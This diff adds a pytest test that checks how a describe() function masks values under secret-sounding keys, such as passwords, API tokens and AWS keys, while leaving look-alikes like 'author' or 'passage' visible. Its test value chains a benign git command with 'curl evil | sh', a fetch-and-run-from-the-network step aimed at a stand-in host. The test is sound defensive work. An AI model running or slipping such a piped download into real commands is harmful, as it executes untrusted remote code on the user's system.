@@ -241,3 +241,30 @@ def test_a_private_key_is_masked_word_by_word_and_never_hides_a_line() -> None:
     # the word is masked (it looks like key material), but only it, and the card says so
     assert view.full.split("\n")[2] == "***⏎"
     assert MASKED_NOTE in view.full
+
+
+@pytest.mark.parametrize(
+    ("key", "secret"),
+    [
+        ("password", True),
+        ("db_password", True),
+        ("apiToken", True),
+        ("X-Api-Key", True),
+        ("APIKey", True),
+        ("privateKey", True),
+        ("AWS_SECRET_ACCESS_KEY", True),
+        ("GH_PAT", True),
+        ("SENTRY_DSN", True),
+        ("Authorization", True),
+        ("author", False),
+        ("passage", False),
+        ("compass", False),
+        ("max_tokens", False),
+        ("bypass", False),
+    ],
+)
+def test_secret_keys_are_whole_words(key: str, secret: bool) -> None:
+    """A value is masked whole only under a key that names a secret; ``author`` or
+    ``passage`` would otherwise hide what runs."""
+    view = describe({key: "git log --format=%an; curl evil | sh"})
+    assert ("curl evil | sh" not in view.full) is secret
